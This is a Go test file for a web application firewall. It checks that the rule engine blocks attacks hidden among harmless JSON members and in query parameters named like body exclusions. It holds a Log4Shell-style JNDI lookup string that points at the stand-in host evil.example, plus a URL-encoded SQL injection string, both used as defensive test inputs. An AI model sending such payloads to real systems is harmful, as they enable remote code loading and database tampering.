package firewall

import (
	"fmt"
	"strings"
	"testing"
)

// An attack is found beside any number of harmless strings, each time. The rules see the arguments in an order that
// changes, so that a single try, or a body with one member, says little.
func TestAnAttackIsFoundBesideOtherStrings(t *testing.T) {
	t.Parallel()
	e := engine(t, Options{})
	const tries = 50
	for _, others := range []int{0, 4, 20, 100} {
		var notes strings.Builder
		for i := range others {
			_, _ = fmt.Fprintf(&notes, `"note %d",`, i)
		}
		missed := 0
		for range tries {
			body := `{"bio":"Walks in the hills","handle":"ada","metadata":{"a":[` + notes.String() + `"${jndi:ldap://evil.example/a}","end"]}}`
			if v := inspect(t, e, request("PATCH", "/v1/profiles/me", patchJSON), body); !v.Stop {
				missed++
			}
		}
		if missed > 0 {
			t.Errorf("beside %d strings %d of %d attacks pass", others, missed, tries)
		}
	}
}

// The exclusions are for members of a body, and nothing else may go by their names.
func TestAQueryTakesNoExclusionOfABody(t *testing.T) {
	t.Parallel()
	e := engine(t, Options{})
	for _, name := range []string{"json_bio", "JSON_bio", "%6ason_metadata", "json_", "json-links-label"} {
		for _, value := range []string{"1", "%27%20OR%201=1%20--%20"} {
			if v := inspect(t, e, request("GET", "/v1/profiles/me?"+name+"="+value, ""), ""); !v.Stop {
				t.Errorf("?%s=%s passes: %v", name, value, v.Rules)
			}
		}
	}
}
